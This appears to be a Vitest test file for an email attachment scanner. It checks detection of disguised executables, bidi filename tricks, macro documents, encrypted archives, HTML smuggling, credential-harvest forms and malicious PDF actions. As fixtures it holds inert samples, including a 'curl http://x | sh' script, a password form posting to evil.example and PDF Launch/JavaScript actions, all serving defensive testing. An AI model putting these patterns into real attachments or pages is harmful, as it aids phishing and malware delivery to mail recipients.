import { createHash } from 'node:crypto';
import fc from 'fast-check';
import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { signalContext } from '../../tests/support/mail.js';
import {
  attachmentReasons,
  bodyGivesPassword,
  decodePdfNames,
  gzipName,
  inspectAttachment,
  listRar,
  listZip,
  nameFacts,
  pdfFacts,
  sniffKind,
} from './attachments.js';
import { hasUnsafeText } from './text.js';
import type { MailAttachment, Reason, SignalContext } from './types.js';

function attachment(
  filename: string,
  content: Uint8Array | string,
  contentType = 'application/octet-stream',
): MailAttachment {
  const bytes = typeof content === 'string' ? strToU8(content) : content;
  return {
    filename,
    contentType,
    size: bytes.length,
    sha256: createHash('sha256').update(bytes).digest('hex'),
    content: bytes,
    inline: false,
  };
}

function ctxOf(attachments: MailAttachment[], text = 'Bonjour, voici le document.'): SignalContext {
  return signalContext({ message: { subject: 'Document', text, attachments } });
}

const codesOf = (reasons: Reason[]) => reasons.map((r) => r.code).sort();
const reasonsFor = (a: MailAttachment, text?: string) => attachmentReasons(ctxOf([a], text));

const PE = new Uint8Array([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, ...new Array(120).fill(0)]);
const ELF = new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, ...new Array(56).fill(0)]);
const LNK = new Uint8Array([0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0x00, ...new Array(68).fill(0)]);
const PNG_HEAD = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...new Array(40).fill(0)]);

/** A zip whose entries are all marked encrypted (flag bit 0), as a password-protected zip is. */
function encryptedZip(files: Record<string, Uint8Array>): Uint8Array {
  const zip = zipSync(files, { level: 0 });
  for (let i = 0; i + 4 <= zip.length; i++) {
    const sig = zip[i] === 0x50 && zip[i + 1] === 0x4b;
    if (sig && zip[i + 2] === 0x03 && zip[i + 3] === 0x04) zip[i + 6] = (zip[i + 6] as number) | 1;
    if (sig && zip[i + 2] === 0x01 && zip[i + 3] === 0x02) zip[i + 8] = (zip[i + 8] as number) | 1;
  }
  return zip;
}

/** A RAR 4 archive header block followed by one file header naming `name`. */
function rar4(name: string, encrypted = false): Uint8Array {
  const nameBytes = strToU8(name);
  const marker = [0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 0x00];
  const main = [0, 0, 0x73, 0, 0, 13, 0, 0, 0, 0, 0, 0, 0];
  const headSize = 32 + nameBytes.length;
  const flags = 0x8000 | (encrypted ? 0x04 : 0);
  const file = [
    0,
    0,
    0x74,
    flags & 0xff,
    flags >> 8,
    headSize & 0xff,
    headSize >> 8,
    4,
    0,
    0,
    0, // packed size
    4,
    0,
    0,
    0, // unpacked size
    2,
    0,
    0,
    0,
    0,
    0,
    0,
    0,
    0,
    20,
    0x30,
    nameBytes.length & 0xff,
    nameBytes.length >> 8,
    0x20,
    0,
    0,
    0,
    ...nameBytes,
    1,
    2,
    3,
    4,
  ];
  return new Uint8Array([...marker, ...main, ...file]);
}

/** A RAR 5 archive: signature, main header, one file header naming `name`, its 4 data bytes. */
function rar5(name: string): Uint8Array {
  const nameBytes = [...strToU8(name)];
  const main = [1, 0, 0]; // type 1, flags 0, archive flags 0
  const file = [2, 0x02, 4, 0, 4, 0x20, 0x30, 0, nameBytes.length, ...nameBytes];
  return new Uint8Array([
    0x52,
    0x61,
    0x72,
    0x21,
    0x1a,
    0x07,
    0x01,
    0x00,
    0,
    0,
    0,
    0,
    main.length,
    ...main,
    0,
    0,
    0,
    0,
    file.length,
    ...file,
    1,
    2,
    3,
    4,
  ]);
}

function gzipWithName(name: string): Uint8Array {
  return new Uint8Array([0x1f, 0x8b, 8, 0x08, 0, 0, 0, 0, 0, 3, ...strToU8(name), 0, 3, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
}

function pdf(body: string): Uint8Array {
  return strToU8(`%PDF-1.7\n${body}\n%%EOF\n`);
}

describe('names', () => {
  it('sees through double extensions, padding and bidi overrides', () => {
    expect(nameFacts('facture.pdf.exe')).toMatchObject({ extension: 'exe', previous: 'pdf', bidi: false });
    expect(nameFacts('facture.pdf            .exe')).toMatchObject({ extension: 'exe', padded: true });
    expect(nameFacts('invoice\u202Efdp.exe')).toMatchObject({ extension: 'exe', bidi: true });
    expect(nameFacts('scan.EXE. ')).toMatchObject({ extension: 'exe' });
  });

  it('flags double extensions and bidi tricks with the file name and hash', () => {
    const reasons = reasonsFor(attachment('facture.pdf.exe', PE));
    expect(codesOf(reasons)).toEqual(['mail.attachment.double_extension', 'mail.attachment.executable']);
    for (const r of reasons) {
      expect(r.data?.filename).toBe('facture.pdf.exe');
      expect(r.data?.sha256).toMatch(/^[0-9a-f]{64}$/);
      expect(r.message.fr).toContain('facture.pdf.exe');
    }
    expect(codesOf(reasonsFor(attachment('facture.pdf        .scr', 'x')))).toContain(
      'mail.attachment.double_extension',
    );
    expect(codesOf(reasonsFor(attachment('photo\u202Egpj.js', 'x')))).toEqual([
      'mail.attachment.bidi_filename',
      'mail.attachment.script',
    ]);
  });
});

describe('executables and scripts', () => {
  it('by extension', () => {
    expect(codesOf(reasonsFor(attachment('setup.exe', 'hello')))).toEqual(['mail.attachment.executable']);
    expect(codesOf(reasonsFor(attachment('Invoice.vbs', 'MsgBox 1')))).toEqual(['mail.attachment.script']);
    expect(codesOf(reasonsFor(attachment('run.ps1', 'Write-Host')))).toEqual(['mail.attachment.script']);
    expect(codesOf(reasonsFor(attachment('payload.hta', '<html>')))).toContain('mail.attachment.executable');
  });

  it('by magic bytes, with the declared-type mismatch', () => {
    expect(codesOf(reasonsFor(attachment('releve.pdf', PE, 'application/pdf')))).toEqual([
      'mail.attachment.executable',
      'mail.attachment.type_mismatch',
    ]);
    expect(codesOf(reasonsFor(attachment('photo.jpg', ELF, 'image/jpeg')))).toEqual([
      'mail.attachment.executable',
      'mail.attachment.type_mismatch',
    ]);
    expect(codesOf(reasonsFor(attachment('notes.txt', '#!/bin/sh\ncurl http://x | sh\n', 'text/plain')))).toEqual([
      'mail.attachment.script',
      'mail.attachment.type_mismatch',
    ]);
  });

  it('leaves developers’ files alone', () => {
    expect(reasonsFor(attachment('fix.patch', 'diff --git a/x b/x', 'text/x-diff'))).toEqual([]);
    expect(reasonsFor(attachment('tool.py', '#!/usr/bin/env python3\nprint(1)\n', 'text/x-python'))).toEqual([]);
    expect(reasonsFor(attachment('build.sh', '#!/bin/sh\nmake\n', 'application/x-sh'))).toEqual([]);
  });
});

describe('Office macros, disk images, shortcuts', () => {
  it('macro-enabled extension, OOXML with vbaProject.bin, OLE2 with a VBA project', () => {
    expect(codesOf(reasonsFor(attachment('budget.xlsm', zipSync({ 'xl/workbook.xml': strToU8('<x/>') }))))).toEqual([
      'mail.attachment.macro',
    ]);
    const docx = zipSync({ '[Content_Types].xml': strToU8('<x/>'), 'word/vbaProject.bin': new Uint8Array(16) });
    expect(codesOf(reasonsFor(attachment('contrat.docx', docx)))).toEqual(['mail.attachment.macro']);
    const ole = new Uint8Array(2048);
    ole.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
    const name = '_VBA_PROJECT';
    for (let i = 0; i < name.length; i++) ole[1024 + i * 2] = name.charCodeAt(i);
    expect(codesOf(reasonsFor(attachment('facture.doc', ole, 'application/msword')))).toEqual([
      'mail.attachment.macro',
    ]);
    const cleanOle = new Uint8Array(2048);
    cleanOle.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
    expect(reasonsFor(attachment('facture.doc', cleanOle, 'application/msword'))).toEqual([]);
  });

  it('disk images by name and by the ISO 9660 signature', () => {
    expect(codesOf(reasonsFor(attachment('scan.iso', 'x')))).toEqual(['mail.attachment.disk_image']);
    const iso = new Uint8Array(0x8800);
    iso.set(strToU8('CD001'), 0x8001);
    expect(sniffKind(iso)).toBe('iso');
    expect(codesOf(reasonsFor(attachment('document.pdf', iso, 'application/pdf')))).toEqual([
      'mail.attachment.disk_image',
      'mail.attachment.type_mismatch',
    ]);
    expect(codesOf(reasonsFor(attachment('disk.vhdx', 'vhdxfile....')))).toEqual(['mail.attachment.disk_image']);
  });

  it('shortcuts and OneNote', () => {
    expect(codesOf(reasonsFor(attachment('Facture.lnk', LNK)))).toEqual(['mail.attachment.shortcut']);
    expect(codesOf(reasonsFor(attachment('photo.jpg', LNK, 'image/jpeg')))).toEqual([
      'mail.attachment.shortcut',
      'mail.attachment.type_mismatch',
    ]);
    expect(codesOf(reasonsFor(attachment('notes.one', 'x')))).toEqual(['mail.attachment.onenote']);
  });
});

describe('archives', () => {
  it('lists a zip from its central directory', () => {
    const zip = zipSync({ 'a.txt': strToU8('a'), 'dir/b.exe': strToU8('b') });
    const listing = listZip(zip);
    expect(listing.unreadable).toBe(false);
    expect(listing.entries.map((e) => e.name)).toEqual(['a.txt', 'dir/b.exe']);
  });

  it('flags executables, scripts, shortcuts and disk images inside', () => {
    for (const inner of ['invoice.exe', 'facture.js', 'doc.lnk', 'disk.iso', 'x.pdf.html']) {
      const zip = zipSync({ 'readme.txt': strToU8('hi'), [inner]: strToU8('x') });
      expect(codesOf(reasonsFor(attachment('documents.zip', zip, 'application/zip')))).toContain(
        'mail.attachment.archive_executable',
      );
    }
    const fine = zipSync({ 'report.pdf': strToU8('%PDF-1.4'), 'photo.jpg': strToU8('x') });
    expect(reasonsFor(attachment('photos.zip', fine, 'application/zip'))).toEqual([]);
  });

  it('flags nested archives', () => {
    const inner = zipSync({ 'a.txt': strToU8('a') });
    const outer = zipSync({ 'part2.zip': inner });
    expect(codesOf(reasonsFor(attachment('files.zip', outer)))).toEqual(['mail.attachment.nested_archive']);
  });

  it('encrypted zip: strong when the body gives the password', () => {
    const zip = encryptedZip({ 'facture.pdf': strToU8('x') });
    expect(listZip(zip).entries[0]?.encrypted).toBe(true);
    expect(codesOf(reasonsFor(attachment('facture.zip', zip)))).toEqual(['mail.attachment.encrypted_archive']);
    const withPassword = reasonsFor(attachment('facture.zip', zip), 'Voici la facture. Mot de passe : 1234');
    expect(codesOf(withPassword)).toEqual(['mail.attachment.encrypted_archive_password']);
    expect(withPassword[0]?.weight).toBeGreaterThanOrEqual(3);
    expect(codesOf(reasonsFor(attachment('f.zip', zip), 'The password is Inv2024'))).toEqual([
      'mail.attachment.encrypted_archive_password',
    ]);
  });

  it('reads RAR 4 names and gzip original names', () => {
    expect(listRar(rar4('facture.exe')).entries.map((e) => e.name)).toEqual(['facture.exe']);
    expect(listRar(rar4('a.txt', true)).entries[0]?.encrypted).toBe(true);
    expect(codesOf(reasonsFor(attachment('facture.rar', rar4('facture.exe'))))).toEqual([
      'mail.attachment.archive_executable',
    ]);
    expect(listRar(rar5('scan.vbs')).entries.map((e) => e.name)).toEqual(['scan.vbs']);
    expect(listRar(rar5('scan.vbs').subarray(0, 25)).entries).toEqual([]);
    expect(gzipName(gzipWithName('invoice.exe'))).toBe('invoice.exe');
    expect(codesOf(reasonsFor(attachment('invoice.gz', gzipWithName('invoice.exe'))))).toEqual([
      'mail.attachment.archive_executable',
    ]);
    expect(reasonsFor(attachment('report.xml.gz', gzipWithName('report.xml'), 'application/gzip'))).toEqual([]);
  });

  it('recognises rare archive formats', () => {
    const ace = new Uint8Array(64);
    ace.set(strToU8('**ACE**'), 7);
    expect(codesOf(reasonsFor(attachment('order.ace', ace)))).toEqual(['mail.attachment.unusual_archive']);
  });

  it('never throws on arbitrary or corrupted archives, and stays bounded (property)', () => {
    const base = zipSync({ 'a.txt': strToU8('hello'), 'b/c.exe': strToU8('x') });
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 4096 }), fc.integer({ min: 1, max: 50 }), (bytes, max) => {
        const listing = listZip(bytes, max);
        expect(listing.entries.length).toBeLessThanOrEqual(max);
        for (const e of listing.entries) expect(e.name.length).toBeLessThanOrEqual(1024);
        expect(listRar(bytes, max).entries.length).toBeLessThanOrEqual(max);
        gzipName(bytes);
        sniffKind(bytes);
        inspectAttachment(attachment('x.zip', bytes), true);
      }),
      { numRuns: 500 },
    );
    fc.assert(
      fc.property(
        fc.array(fc.tuple(fc.nat(base.length - 1), fc.integer({ min: 0, max: 255 })), { maxLength: 20 }),
        (edits) => {
          const copy = base.slice();
          for (const [at, value] of edits) copy[at] = value;
          const listing = listZip(copy);
          expect(listing.entries.length).toBeLessThanOrEqual(2000);
          inspectAttachment(attachment('y.zip', copy), false);
          const rarCopy = rar4('facture.exe');
          for (const [at, value] of edits) rarCopy[at % rarCopy.length] = value;
          listRar(rarCopy);
          const rar5 = new Uint8Array([0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 0x01, 0x00, ...copy.subarray(0, 200)]);
          listRar(rar5);
        },
      ),
      { numRuns: 500 },
    );
  });

  it('lists a zip of many entries within its bound', () => {
    const files: Record<string, Uint8Array> = {};
    for (let i = 0; i < 3000; i++) files[`f${i}.txt`] = new Uint8Array(0);
    const listing = listZip(zipSync(files, { level: 0 }));
    expect(listing.entries.length).toBe(2000);
    expect(listing.truncated).toBe(true);
  });
});

describe('HTML and SVG attachments', () => {
  it('credential-harvest page', () => {
    const html =
      '<html><body><form action="https://evil.example/p"><input type="password" name="p"></form></body></html>';
    const reasons = reasonsFor(attachment('Remittance.html', html, 'text/html'));
    expect(codesOf(reasons)).toEqual(['mail.attachment.html_form']);
    expect(reasons[0]?.weight).toBeGreaterThanOrEqual(3.5);
  });

  it('HTML smuggling', () => {
    const html = `<html><script>var b=atob("${'QUJD'.repeat(10)}");var u=URL.createObjectURL(new Blob([b]));</script></html>`;
    expect(codesOf(reasonsFor(attachment('doc.htm', html, 'text/html')))).toEqual(['mail.attachment.html_smuggling']);
  });

  it('redirect pages, disguised pages, SVG with script', () => {
    const refresh = '<html><head><meta http-equiv="refresh" content="0;url=https://x.example"></head></html>';
    expect(codesOf(reasonsFor(attachment('voicemail.shtml', refresh, 'text/html')))).toEqual([
      'mail.attachment.html_redirect',
    ]);
    expect(codesOf(reasonsFor(attachment('scan.pdf.html', refresh, 'text/html')))).toEqual([
      'mail.attachment.double_extension',
      'mail.attachment.html_redirect',
    ]);
    expect(codesOf(reasonsFor(attachment('facture.pdf', refresh, 'application/pdf')))).toEqual([
      'mail.attachment.html_redirect',
      'mail.attachment.type_mismatch',
    ]);
    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>window.location="https://x.example"</script></svg>';
    expect(codesOf(reasonsFor(attachment('logo.svg', svg, 'image/svg+xml')))).toEqual(['mail.attachment.svg_script']);
    const plainSvg = '<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>';
    expect(reasonsFor(attachment('logo.svg', plainSvg, 'image/svg+xml'))).toEqual([]);
  });
});

describe('PDF attachments', () => {
  it('JavaScript run on open, Launch actions, embedded files', () => {
    const js = pdf(
      '1 0 obj <</Type /Catalog /OpenAction 2 0 R>> endobj 2 0 obj <</S /JavaScript /JS (app.alert(1))>> endobj',
    );
    const reasons = reasonsFor(attachment('facture.pdf', js, 'application/pdf'));
    expect(codesOf(reasons)).toEqual(['mail.attachment.pdf_javascript']);
    expect(reasons[0]?.weight).toBe(3);
    expect(codesOf(reasonsFor(attachment('a.pdf', pdf('<</S /Launch /F (cmd.exe)>>'))))).toEqual([
      'mail.attachment.pdf_launch',
    ]);
    expect(codesOf(reasonsFor(attachment('a.pdf', pdf('<</S /J#61vaScript /JS (x)>>'))))).toEqual([
      'mail.attachment.pdf_javascript',
    ]);
    expect(
      codesOf(reasonsFor(attachment('a.pdf', pdf('<</Type /EmbeddedFile>> /Type /Page /Type /Page /Type /Page')))),
    ).toEqual(['mail.attachment.pdf_embedded_file']);
  });

  // What pdfFacts did before it read the names in one pass and decoded only names with a `#`.
  const decodeName = (name: string) =>
    name.replace(/#([0-9a-fA-F]{2})/g, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)));
  const decodeEveryName = (raw: string) => raw.replace(/\/[A-Za-z0-9#]{1,64}/g, decodeName);
  const countEach = (text: string, re: RegExp) => {
    let n = 0;
    while (re.exec(text) !== null && n < 10_000) n++;
    return n;
  };
  // PDF text from pieces where the two ways could part: names cut at 64 characters, escapes
  // across the cut, `#` without a name, the names counted, spelled whole, cut or escaped.
  const pdfText = fc
    .array(
      fc.oneof(
        fc.constantFrom('/', '#', '#4', '#41', '#2F', '#23', 'a', 'F', '9', ' ', '\n', '<<', '(', ')'),
        // Runs that bring an escape or a name's end to the 64th character.
        fc.integer({ min: 58, max: 66 }).map((n) => 'x'.repeat(n)),
        fc
          .tuple(fc.integer({ min: 0, max: 66 }), fc.constantFrom('#41', '#4', '#', '#2F', '#23'), fc.nat(3))
          .map(([before, escaped, after]) => `/${'x'.repeat(before)}${escaped}${'y'.repeat(after)}`),
        fc.constantFrom(
          '/JavaScript',
          '/JS',
          '/JSX',
          '/OpenAction',
          '/AA <<',
          '/AA',
          '/Launch',
          '/URI',
          '/URI (https://a.example/b)',
        ),
        fc.constantFrom(
          '/EmbeddedFile',
          '/SubmitForm',
          '/Type /Page',
          '/Type/Pages',
          '/J#61vaScript',
          '/Type #2FPage',
          '/Ty#70e',
        ),
      ),
      { maxLength: 60 },
    )
    .map((pieces) => pieces.join(''));

  it('decodes #xx escapes in names as decoding every name did (property)', () => {
    fc.assert(
      fc.property(pdfText, (text) => {
        expect(decodePdfNames(text)).toBe(decodeEveryName(text));
      }),
      { numRuns: 3000 },
    );
  });

  it('counts what a pass per name counted (property)', () => {
    fc.assert(
      fc.property(pdfText, (raw) => {
        const text = decodeEveryName(raw);
        const facts = pdfFacts(new Uint8Array(Buffer.from(raw, 'latin1')));
        expect(facts).toMatchObject({
          javascript: countEach(text, /\/(?:JavaScript|JS)\b/g),
          openAction: /\/OpenAction\b|\/AA\s*<</.test(text),
          launch: /\/Launch\b/.test(text),
          uris: countEach(text, /\/URI\b/g),
          embeddedFiles: countEach(text, /\/EmbeddedFile\b/g),
          submitForm: /\/SubmitForm\b/.test(text),
          pages: countEach(text, /\/Type\s*\/Page\b/g),
        });
      }),
      { numRuns: 3000 },
    );
  });

  it('stops counting a name at 10,000', () => {
    const many = pdfFacts(new Uint8Array(Buffer.from('/JS /URI '.repeat(10_001), 'latin1')));
    expect([many.javascript, many.uris]).toEqual([10_000, 10_000]);
  });

  it('decodes long runs of # as decoding every name did', () => {
    // Where looking back from each # stops at the last one found in no name.
    for (const text of ['#'.repeat(5_000), `/${'#41'.repeat(500)}`, `x/${'#'.repeat(200)}/a#41`, 'a#'.repeat(3_000)]) {
      expect(decodePdfNames(text)).toBe(decodeEveryName(text));
    }
  });

  it('a one-page PDF built around a link is a weak hint and names the link', () => {
    const reasons = reasonsFor(attachment('doc.pdf', pdf('<</Type /Page>> <</S /URI /URI (https://evil.example/x)>>')));
    expect(codesOf(reasons)).toEqual(['mail.attachment.pdf_link']);
    expect(reasons[0]?.weight).toBeLessThanOrEqual(1.5);
    expect(reasons[0]?.data?.urls).toEqual(['https://evil.example/x']);
  });
});

describe('benign attachments', () => {
  it('give no reason', () => {
    const benign = [
      attachment('photo.png', PNG_HEAD, 'image/png'),
      attachment('rapport.pdf', pdf('/Type /Page /Type /Page /Type /Page'), 'application/pdf'),
      attachment('invite.ics', 'BEGIN:VCALENDAR\nEND:VCALENDAR\n', 'text/calendar'),
      attachment('signature.asc', '-----BEGIN PGP SIGNATURE-----', 'application/pgp-signature'),
      attachment('smime.p7s', new Uint8Array([0x30, 0x82, 1, 2]), 'application/pkcs7-signature'),
      attachment('', 'Reporting-MTA: dns; mx.example', 'message/delivery-status'),
      attachment('notes.txt', 'hello', 'text/plain'),
      attachment('tableau.xlsx', zipSync({ 'xl/workbook.xml': strToU8('<x/>') })),
      attachment('report.csv.zip', zipSync({ 'report.csv': strToU8('a,b') }), 'application/zip'),
    ];
    expect(attachmentReasons(ctxOf(benign))).toEqual([]);
  });

  it('password detection ignores password-reset talk', () => {
    const ctx = (text: string) => ctxOf([], text);
    expect(bodyGivesPassword(ctx('Mot de passe : 1234'))).toBe(true);
    expect(bodyGivesPassword(ctx('password: Xk29aa'))).toBe(true);
    expect(bodyGivesPassword(ctx('Your password reset link'))).toBe(false);
    expect(bodyGivesPassword(ctx('Entrez le code postal'))).toBe(false);
  });

  it('bounds the number of attachments examined in full, checks every name, and says so', () => {
    const many = Array.from({ length: 80 }, (_, i) => attachment(`f${i}.exe`, 'x'));
    const reasons = attachmentReasons(ctxOf(many));
    expect(reasons.filter((r) => r.code === 'mail.attachment.executable').length).toBe(80);
    expect(reasons.filter((r) => r.data?.inspected === 'name').length).toBe(30);
    const tooMany = reasons.find((r) => r.code === 'mail.attachment.too_many');
    expect(tooMany).toMatchObject({ weight: 1, data: { count: 80, examined: 50 } });
    expect(tooMany?.message.en).toContain('80');
  });

  it('is not blinded by one-pixel pictures padding the message before the real file', () => {
    const gif = Uint8Array.from(Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64'));
    const pictures = Array.from({ length: 60 }, (_, i) => attachment(`logo${i}.gif`, gif, 'image/gif'));
    const disguised = attachment('scan.gif', PE, 'image/gif');
    const reasons = attachmentReasons(ctxOf([...pictures, disguised, attachment('facture.pdf.exe', PE)]));
    const full = reasons.filter((r) => r.data?.inspected === undefined);
    expect(full.filter((r) => r.code === 'mail.attachment.executable').map((r) => r.data?.filename)).toEqual([
      'scan.gif',
      'facture.pdf.exe',
    ]);
    expect(codesOf(reasons)).toContain('mail.attachment.type_mismatch');
    expect(codesOf(reasons)).toContain('mail.attachment.too_many');
  });

  it('strips control and bidi characters from the names it quotes, and escapes them in data', () => {
    const [reason] = reasonsFor(attachment('facture\u001b[2K\u001b[1G\u202e.pdf.exe', PE));
    expect(reason?.message.en).toBe(
      'The attachment "facture[2K[1G.pdf.exe" has a name with an invisible text-reversal character that hides its real extension.',
    );
    for (const text of [reason?.message.fr, reason?.message.en]) {
      expect(hasUnsafeText(text ?? '')).toBe(false);
    }
    expect(reason?.data?.filename).toBe('facture\\u{1b}[2K\\u{1b}[1G\\u{202e}.pdf.exe');
  });
});
